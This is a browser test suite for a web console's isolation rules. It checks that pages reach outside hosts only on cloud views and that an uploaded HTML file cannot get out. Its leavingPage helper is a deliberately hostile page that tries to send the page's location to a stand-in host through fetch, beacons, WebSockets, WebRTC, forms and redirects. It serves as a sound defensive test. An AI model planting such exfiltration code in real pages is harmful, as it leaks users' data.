/** How far a document of the console reaches: to clouds only while it shows them, and never along with people's pages. */
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { startBerth, type BerthSite } from './berth-site.ts'
import { openBrowser, openPage } from './browser.ts'
import { setUp } from './people.ts'

let site: BerthSite
let browser: Browser
/** Not watched: it is refused what it asks for. */
let page: Page
/** What was asked of another host. */
const asked: string[] = []
const elsewhere = createServer((request, response) => {
  asked.push(request.url ?? '')
  response.setHeader('access-control-allow-origin', '*').end()
})
const peers = createSocket('udp4', () => asked.push('a peer'))
let host: string

beforeAll(async () => {
  await Promise.all([
    once(elsewhere.listen(0, '127.0.0.1'), 'listening'),
    once(peers.bind(0, '127.0.0.1'), 'listening'),
  ])
  host = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
  ;[site, browser] = await Promise.all([startBerth(['--engine', 'mock']), openBrowser()])
  page = (await openPage(browser)).page
  await setUp(page, site)
})
afterAll(async () => {
  await browser?.close()
  await site?.remove()
  elsewhere.closeAllConnections()
  elsewhere.close()
  peers.close()
})
beforeEach(() => void asked.splice(0))

const isLet = () => page.evaluate((url) => fetch(url).then(Boolean, () => false), `http://${host}/`)
/** What a document is told is gone with it. */
const mark = () => page.evaluate(() => void (document.documentElement.dataset['here'] = 'yes'))
const isMarked = () => page.evaluate(() => document.documentElement.dataset['here'] === 'yes')
const heading = (name: string) => page.getByRole('heading', { name, level: 1 }).waitFor()
const place = (name: string) =>
  page.getByRole('navigation', { name: 'Data & Storage' }).getByRole('link', { name, exact: true })

test('a document reaches other hosts only as long as it shows clouds', async () => {
  await page.goto(`${site.url}/data`)
  await heading('Data & Storage')
  expect(await isLet()).toBe(false)
  await mark()
  await place('Cloud').click()
  await heading('Cloud')
  expect([await isMarked(), await isLet()]).toEqual([false, true])
  await mark()
  await place('Folders').click()
  await heading('Data & Storage')
  expect([await isMarked(), await isLet()]).toEqual([false, false])
  for (const [go, name, mayAsk] of [
    ['goBack', 'Cloud', true],
    ['goForward', 'Data & Storage', false],
  ] as const) {
    await mark()
    await page[go]()
    await heading(name)
    expect([await isMarked(), await isLet()], name).toEqual([false, mayAsk])
  }
})

test('where keys are entered others are asked, and nothing of them is shown', async () => {
  const keys = page.getByRole('region', { name: 'Web app cloud access' })
  await page.goto(`${site.url}/preferences`)
  await heading('Preferences')
  await mark()
  await page.getByRole('tab', { name: 'Configuration' }).click()
  await keys.waitFor()
  // Before keys are tried nobody has to be asked.
  expect([await isMarked(), await isLet()]).toEqual([true, false])
  await page.reload()
  await keys.waitFor()
  expect(await isLet()).toBe(true)
  const isShown = (url: string) =>
    Object.assign(new Image(), { src: url })
      .decode()
      .then(
        () => true,
        () => false,
      )
  asked.splice(0)
  expect(await page.evaluate(isShown, `http://${host}/image`)).toBe(false)
  expect(asked).toEqual([])
  await mark()
  await page.getByRole('tab', { name: 'General' }).click()
  await expect.poll(isMarked).toBe(false)
  await heading('Preferences')
  expect(await isLet()).toBe(false)
})

/** It tries whatever a script can send something by, and leaves for elsewhere when it is told to. */
const leavingPage = () => `<!doctype html><title>Leaving</title><button>Leave</button>
<link rel="stylesheet" href="http://${host}/style"><img src="http://${host}/image"><script src="http://${host}/script"></script>
<form method="post" action="http://${host}/form"></form>
<script>
  const tries = [
    () => fetch('http://${host}/fetch?' + encodeURIComponent(location)),
    () => navigator.sendBeacon('http://${host}/beacon', location.href),
    () => new WebSocket('ws://${host}/socket'),
    () => new EventSource('http://${host}/events'),
    () => window.open('http://${host}/window'),
    () => document.forms[0].submit(),
    () => { top.location = 'http://${host}/top' },
    async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${peers.address().port}' }] })
      peer.createDataChannel('out')
      await peer.setLocalDescription(await peer.createOffer())
    },
  ]
  for (const one of tries) try { Promise.resolve(one()).catch(() => {}) } catch {}
  document.querySelector('button').onclick = () => { location = 'http://${host}/left?' + encodeURIComponent(location) }
  addEventListener('load', () => setTimeout(() => document.body.append('peers: ' + typeof RTCPeerConnection)))
</script>`

test('a page of somebody’s finds no way out, not even where clouds were shown before', async () => {
  const headers = { origin: site.url }
  const made = await page.request.post(`${site.url}/api/v1/folders`, { data: { name: 'work' }, headers })
  const { id } = (await made.json()) as { id: string }
  const written = await page.request.put(`${site.url}/api/v1/folders/${id}/files/content?path=leaving.html`, {
    data: leavingPage(),
    headers: { ...headers, 'content-type': 'application/octet-stream' },
  })
  expect(written.ok()).toBe(true)
  await page.goto(`${site.url}/data/cloud`)
  await heading('Cloud')
  expect(await isLet()).toBe(true)
  expect(asked.splice(0)).toEqual(['/'])
  await place('Folders').click()
  await page.getByRole('link', { name: 'work', exact: true }).click()
  await page.getByRole('link', { name: /leaving\.html$/ }).click()
  const frame = page.frameLocator('iframe')
  await frame.getByText('peers: undefined').waitFor()
  await frame.getByRole('button', { name: 'Leave' }).click()
  // Either it came there, or the browser says in its place that it may not.
  const isOver = () => asked.length > 0 || page.frames().some((one) => one.url().startsWith('chrome-error:'))
  await expect.poll(isOver).toBe(true)
  expect(asked).toEqual([])
})
